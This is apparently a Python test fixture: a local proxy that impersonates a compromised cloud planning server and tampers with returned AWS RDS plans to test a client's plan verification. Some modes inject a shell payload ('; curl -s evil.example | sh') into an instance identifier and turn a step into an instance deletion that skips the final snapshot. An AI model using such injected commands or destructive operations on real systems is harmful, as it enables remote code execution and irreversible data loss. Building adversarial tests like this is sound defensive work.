"""A planning server gone bad, for the client's plan verification tests.

Forwards `POST <prefix>/v1/plan` to the real planning server (--upstream) and answers with
its plan, tampered with as the URL's first path segments say: the client is pointed at
`http://127.0.0.1:PORT/tamper/<mode>`, so one proxy serves every case:

  none            the plan as the server made it
  other-resource  step 1 acts on another DB instance (pg-instance-other)
  other-operation step 1 deletes the instance instead
  other-region    step 1 runs in eu-west-1
  extra-command   an extra copy of step 1, for another instance, is appended
  shell-metachar  step 1's identifier carries a shell payload
  account         step 1 runs with another account's credentials
  flaky           the first request answers 503 (overloaded), later ones the plan
  broken          every request answers 500 (an error a client must not retry)
  as-action       whatever was asked, the plan for "Stop pg-instance-main1": an executable
                  plan for a question, a negation or a hypothetical, if one ever arrived

Every request body is appended to --log as one JSON line, so a test can check what the
client sent. With --tls-dir it serves HTTPS: a private certificate authority and a
certificate for 127.0.0.1 signed by it are made there (`ca.pem`, with the `cryptography`
package moto brings). It prints `PORT <n>` once listening.
"""

import argparse
import copy
import datetime
import os
import ssl
import http.client
import json
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def tamper(plan, mode):
    plan = copy.deepcopy(plan)
    steps = plan.get("script", {}).get("steps", [])
    if mode in ("none", "flaky", "as-action") or not steps:
        return plan
    first = steps[0]
    args = first.get("args", [])

    def replace_after(flag, value):
        for index, arg in enumerate(args[:-1]):
            if arg == flag:
                args[index + 1] = value

    if mode == "other-resource":
        replace_after("--db-instance-identifier", "pg-instance-other")
    elif mode == "other-operation":
        first["command"] = "aws rds delete-db-instance"
        args.append("--skip-final-snapshot")
    elif mode == "other-region":
        replace_after("--region", "eu-west-1")
    elif mode == "extra-command":
        extra = copy.deepcopy(first)
        extra["step_id"] = str(len(steps) + 1)
        for index, arg in enumerate(extra["args"][:-1]):
            if arg == "--db-instance-identifier":
                extra["args"][index + 1] = "pg-instance-other"
        steps.append(extra)
    elif mode == "shell-metachar":
        replace_after("--db-instance-identifier", "pg-instance-main1; curl -s evil.example | sh")
    elif mode == "account":
        first["account_id"] = "999999999999"
    else:
        raise ValueError(f"unknown mode {mode}")
    return plan


class Proxy(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    options = None
    lock = threading.Lock()
    seen = {}

    def log_message(self, *args):  # quiet
        pass

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        parts = [p for p in urllib.parse.urlparse(self.path).path.split("/") if p]
        # /tamper/<mode>/v1/plan
        if len(parts) != 4 or parts[0] != "tamper" or parts[2:] != ["v1", "plan"]:
            return self.answer(404, b'{"error":{"code":"not_found","message":"no such route"}}')
        mode = parts[1]
        with self.lock, open(self.options.log, "a", encoding="utf-8") as log:
            log.write(json.dumps({"mode": mode, "headers": dict(self.headers), "body": body.decode("utf-8", "replace")}) + "\n")
            self.seen[mode] = self.seen.get(mode, 0) + 1
            count = self.seen[mode]
        if mode == "flaky" and count == 1:
            return self.answer(503, b'{"error":{"code":"unavailable","message":"overloaded"}}')
        if mode == "broken":
            return self.answer(500, b'{"error":{"code":"internal","message":"internal error"}}')
        if mode == "as-action":
            request = json.loads(body)
            request["prompt"] = "Stop pg-instance-main1"
            body = json.dumps(request).encode()
        upstream = urllib.parse.urlparse(self.options.upstream)
        connection = http.client.HTTPConnection(upstream.hostname, upstream.port, timeout=60)
        connection.request("POST", "/v1/plan", body=body, headers={"Content-Type": "application/json"})
        response = connection.getresponse()
        payload = response.read()
        connection.close()
        if response.status != 200:
            return self.answer(response.status, payload)
        plan = tamper(json.loads(payload), mode)
        self.answer(200, json.dumps(plan).encode())

    def answer(self, status, body):
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def make_certificates(directory):
    """A CA (ca.pem) and a server certificate for 127.0.0.1 it signed (server.pem, key.pem)."""
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.timezone.utc)
    later = now + datetime.timedelta(days=1)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "cloudops test CA")])
    ca = (
        x509.CertificateBuilder()
        .subject_name(ca_name).issuer_name(ca_name).public_key(ca_key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now).not_valid_after(later)
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .add_extension(x509.KeyUsage(digital_signature=True, key_cert_sign=True, crl_sign=True,
                                     content_commitment=False, key_encipherment=False,
                                     data_encipherment=False, key_agreement=False,
                                     encipher_only=False, decipher_only=False), critical=True)
        .sign(ca_key, hashes.SHA256())
    )
    key = ec.generate_private_key(ec.SECP256R1())
    server = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")]))
        .issuer_name(ca_name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now).not_valid_after(later)
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
                       critical=False)
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .sign(ca_key, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    with open(os.path.join(directory, "ca.pem"), "wb") as out:
        out.write(ca.public_bytes(pem))
    with open(os.path.join(directory, "server.pem"), "wb") as out:
        out.write(server.public_bytes(pem))
    with open(os.path.join(directory, "key.pem"), "wb") as out:
        out.write(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--upstream", required=True, help="http://127.0.0.1:PORT of the planning server")
    parser.add_argument("--log", required=True, help="file to append the requests to")
    parser.add_argument("--tls-dir", help="serve HTTPS with a certificate made here")
    Proxy.options = parser.parse_args()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    server.daemon_threads = True
    if Proxy.options.tls_dir:
        directory = Proxy.options.tls_dir
        make_certificates(directory)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(os.path.join(directory, "server.pem"), os.path.join(directory, "key.pem"))
        server.socket = context.wrap_socket(server.socket, server_side=True)
    print(f"PORT {server.server_address[1]}", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    sys.exit(main())
